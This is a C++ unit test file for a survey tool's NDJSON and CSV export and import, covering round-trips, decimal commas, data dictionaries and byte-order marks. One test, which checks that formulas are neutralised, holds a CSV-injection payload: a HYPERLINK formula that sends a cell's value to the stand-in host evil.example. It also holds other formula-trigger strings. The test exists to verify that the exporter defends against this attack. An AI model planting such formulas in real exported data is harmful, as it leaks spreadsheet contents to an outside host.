#include <catch2/catch.hpp>
#include <sstream>

#include "csv_reader.hpp"
#include "io_fixture.hpp"

using io_test::Database;
using io_test::response_line;
using io_test::uuid;

namespace {

using Rows = std::vector<std::vector<std::string>>;

Rows parse_csv(const std::string& text) {
    std::istringstream in(text);
    sonda::io::ChunkSource source(in);
    sonda::io::CsvReader reader(source);
    Rows rows;
    sonda::io::CsvRecord record;
    while (reader.next(record)) {
        REQUIRE(record.error.empty());
        rows.push_back(record.fields);
    }
    return rows;
}

const std::string kFull =
    "\"sharing_1\":4,\"integration_1\":3,\"consolidation_1\":2,\"capacity_1\":5,"
    "\"service\":\"counselling\",\"channels\":[\"phone\",\"email\"],\"hours\":12.5,"
    "\"note\":\"Tavolo mensile; \\\"SdS\\\", perché\\ne poi\","
    "\"strengths\":[\"ascolto\",\"rete | nodi\"],"
    "\"expectations\":{\"counselling\":{\"contact\":3,\"protocol\":4},\"mental-health\":{"
    "\"contact\":2}}";

void load_sample(Database& db) {
    const std::string text = response_line(1, kFull) + "\n" +
                             response_line(2, "\"sharing_1\":1,\"hours\":0.1", "livorno") + "\n" +
                             response_line(3, "\"sharing_1\":5,\"strengths\":[\"solo|una\"]") +
                             "\n";
    REQUIRE(db.import(db.write("sample.ndjson", text)).inserted == 3);
}

}  // namespace

TEST_CASE("[io] NDJSON export writes the canonical interchange objects, one a line") {
    Database db;
    load_sample(db);
    const std::string text = db.export_text(sonda::ExportFormat::Ndjson);
    std::istringstream lines(text);
    std::string line;
    int count = 0;
    while (std::getline(lines, line)) {
        ++count;
        CHECK(line.front() == '{');
        CHECK(line.find("\"form\":\"io-check\"") != std::string::npos);
        CHECK(line.find(": ") == std::string::npos);
    }
    CHECK(count == 3);
    // Export, import into another database, export: the same text.
    Database other;
    CHECK(other.import(other.write("again.ndjson", text)).inserted == 3);
    CHECK(other.export_text(sonda::ExportFormat::Ndjson) == text);
}

TEST_CASE("[io] wide CSV round-trips through the importer, with ',' and with ',' + decimal comma") {
    Database db;
    load_sample(db);
    const std::string original = db.export_text(sonda::ExportFormat::Ndjson);
    for (const auto& [delimiter, decimal] : {std::pair{',', '.'}, std::pair{';', ','}}) {
        const std::string wide = db.export_text(sonda::ExportFormat::CsvWide, delimiter, decimal);
        const Rows rows = parse_csv(wide);
        REQUIRE(rows.size() == 4);
        CHECK(rows[0][0] == "id");
        CHECK(std::find(rows[0].begin(), rows[0].end(), "expectations[mental-health][protocol]") !=
              rows[0].end());
        const auto hours = std::find(rows[0].begin(), rows[0].end(), "hours") - rows[0].begin();
        // Rows come in (wave, territory, respondent, id) order: find response 1.
        const auto first = std::find_if(rows.begin(), rows.end(),
                                        [](const auto& row) { return row[0] == uuid(1); });
        REQUIRE(first != rows.end());
        CHECK((*first)[hours] == (decimal == ',' ? "12,5" : "12.5"));

        Database fresh;
        const auto summary = fresh.import(fresh.write("wide.csv", wide));
        INFO(wide);
        CHECK(summary.inserted == 3);
        CHECK(fresh.export_text(sonda::ExportFormat::Ndjson) == original);
    }
}

TEST_CASE("[io] long CSV has one row per answer, lists by index, a matrix by row and column") {
    Database db;
    load_sample(db);
    const Rows rows = parse_csv(db.export_text(sonda::ExportFormat::CsvLong, ';', ','));
    REQUIRE(!rows.empty());
    CHECK(rows[0] == std::vector<std::string>{"response_id", "form", "form_version", "wave",
                                              "territory", "role", "respondent", "item", "row",
                                              "column", "index", "value"});
    auto find = [&](const std::string& id, const std::string& item, const std::string& row,
                    const std::string& column, const std::string& index) -> std::string {
        for (const auto& fields : rows)
            if (fields[0] == id && fields[7] == item && fields[8] == row && fields[9] == column &&
                fields[10] == index)
                return fields[11];
        return "<none>";
    };
    CHECK(find(uuid(1), "sharing_1", "", "", "") == "4");
    CHECK(find(uuid(1), "hours", "", "", "") == "12,5");
    CHECK(find(uuid(2), "hours", "", "", "") == "0,1");
    CHECK(find(uuid(1), "channels", "", "", "1") == "phone");
    CHECK(find(uuid(1), "channels", "", "", "2") == "email");
    CHECK(find(uuid(1), "strengths", "", "", "2") == "rete | nodi");
    CHECK(find(uuid(1), "expectations", "counselling", "protocol", "") == "4");
    CHECK(find(uuid(1), "expectations", "mental-health", "contact", "") == "2");
    CHECK(find(uuid(1), "note", "", "", "") == "Tavolo mensile; \"SdS\", perché\ne poi");
    // 10 answers of response 1 unrolled: 4 likert, service, 2 channels, hours,
    // note, 2 strengths, 3 matrix cells.
    long long first = 0;
    for (const auto& fields : rows) first += fields[0] == uuid(1);
    CHECK(first == 14);
}

TEST_CASE(
    "[io] the dictionary describes every wide column and every score, in the chosen language") {
    Database db;
    const Rows rows = parse_csv(db.export_text(sonda::ExportFormat::Dictionary, ',', '.', "it"));
    REQUIRE(!rows.empty());
    CHECK(rows[0] == std::vector<std::string>{"colonna", "domanda", "tipo", "etichetta", "valori"});
    auto row_of = [&](const std::string& column) -> std::vector<std::string> {
        for (const auto& fields : rows)
            if (fields[0] == column) return fields;
        return {};
    };
    // Every column of the wide export has its row.
    const Rows wide = parse_csv(db.export_text(sonda::ExportFormat::CsvWide));
    for (const std::string& column : wide[0]) CHECK(!row_of(column).empty());
    CHECK(row_of("sharing_1")[3] == "Le informazioni vengono condivise");
    CHECK_THAT(row_of("sharing_1")[4], Catch::Contains("numero intero da 1 a 5"));
    CHECK_THAT(row_of("sharing_1")[4], Catch::Contains("Per niente"));
    CHECK_THAT(row_of("sharing_1")[4], Catch::Contains("obbligatoria"));
    CHECK_THAT(row_of("channels")[4], Catch::Contains("phone = Telefono"));
    CHECK_THAT(row_of("channels")[4], Catch::Contains("più di una ammessa"));
    CHECK(row_of("expectations[counselling][contact]")[2] == "matrix/likert");
    CHECK_THAT(row_of("expectations[counselling][contact]")[3], Catch::Contains("[Consultorio]"));
    CHECK_THAT(row_of("expectations[counselling][contact]")[4], Catch::Contains("da 1 a 4"));
    CHECK(row_of("respondent")[3] == "codice pseudonimo del rispondente");
    const auto sharing = row_of("score:sharing");
    REQUIRE(!sharing.empty());
    CHECK(sharing[1] == "sharing_1");
    CHECK(sharing[2] == "score");
    CHECK(!row_of("score:capacity_building").empty());
    // In English, the same columns in English words.
    const Rows english = parse_csv(db.export_text(sonda::ExportFormat::Dictionary, ',', '.', "en"));
    CHECK(english[0] == std::vector<std::string>{"column", "item", "type", "label", "values"});
    for (const auto& fields : english)
        if (fields[0] == "sharing_1") CHECK_THAT(fields[4], Catch::Contains("whole number 1 to 5"));
}

TEST_CASE("[io] export filters: a wave, an unknown form") {
    Database db;
    load_sample(db);
    sonda::ExportOptions options;
    options.filter.form = "io-check";
    options.filter.waves = {"workshop-2"};
    std::ostringstream out;
    CHECK(sonda::export_responses(db.project(), out, options) == 0);
    CHECK(out.str().empty());
    options.filter.form = "nope";
    options.format = sonda::ExportFormat::CsvWide;
    CHECK_THROWS_AS(sonda::export_responses(db.project(), out, options), sonda::InvalidInput);
    options.filter.form = "io-check";
    options.delimiter = ',';
    options.decimal = ',';
    CHECK_THROWS_AS(sonda::export_responses(db.project(), out, options), sonda::UsageError);
}

TEST_CASE("[io] wide CSV neutralises formulas in texts and reads them back unchanged") {
    Database db;
    const std::string formula = R"(=HYPERLINK(\"http://evil.example/?\"&A1,\"click\"))";
    db.import(db.write("formulas.ndjson",
                       response_line(1, "\"sharing_1\":4,\"hours\":0,\"note\":\"" + formula +
                                            "\",\"strengths\":[\"@SUM(1)\",\"'=x\",\"-\"]") +
                           "\n"));
    const std::string original = db.export_text(sonda::ExportFormat::Ndjson);
    for (const auto& [delimiter, decimal] : {std::pair{',', '.'}, std::pair{';', ','}}) {
        const std::string wide = db.export_text(sonda::ExportFormat::CsvWide, delimiter, decimal);
        const Rows rows = parse_csv(wide);
        REQUIRE(rows.size() == 2);
        const auto column = [&](const std::string& name) {
            return std::find(rows[0].begin(), rows[0].end(), name) - rows[0].begin();
        };
        CHECK(rows[1][column("note")].rfind("'=HYPERLINK(\"http://evil.example/", 0) == 0);
        CHECK(rows[1][column("strengths")].rfind("'@SUM(1)", 0) == 0);
        CHECK(rows[1][column("hours")] == "0");
        const std::string long_csv =
            db.export_text(sonda::ExportFormat::CsvLong, delimiter, decimal);
        CHECK(long_csv.find(std::string(1, delimiter) + "''=x") != std::string::npos);

        Database fresh;
        INFO(wide);
        CHECK(fresh.import(fresh.write("wide.csv", wide)).inserted == 1);
        CHECK(fresh.export_text(sonda::ExportFormat::Ndjson) == original);
    }
}

TEST_CASE("[io] CSV exports start with a UTF-8 byte order mark when asked, and imports accept it") {
    Database db;
    load_sample(db);
    const std::string original = db.export_text(sonda::ExportFormat::Ndjson);
    sonda::ExportOptions options;
    options.filter.form = "io-check";
    options.delimiter = ';';
    options.decimal = ',';
    options.byte_order_mark = true;
    for (const sonda::ExportFormat format :
         {sonda::ExportFormat::CsvWide, sonda::ExportFormat::CsvLong,
          sonda::ExportFormat::Dictionary}) {
        options.format = format;
        std::ostringstream out;
        sonda::export_responses(db.project(), out, options);
        CHECK(out.str().rfind("\xEF\xBB\xBF", 0) == 0);
        // One mark only, then the header as without it.
        CHECK(out.str().substr(3) == db.export_text(format, ';', ','));
    }
    options.format = sonda::ExportFormat::CsvWide;
    std::ostringstream wide;
    sonda::export_responses(db.project(), wide, options);
    Database fresh;
    CHECK(fresh.import(fresh.write("bom.csv", wide.str())).inserted == 3);
    CHECK(fresh.export_text(sonda::ExportFormat::Ndjson) == original);
    // JSON never carries one (RFC 8259).
    options.format = sonda::ExportFormat::Ndjson;
    std::ostringstream ndjson;
    CHECK_THROWS_AS(sonda::export_responses(db.project(), ndjson, options), sonda::UsageError);
}
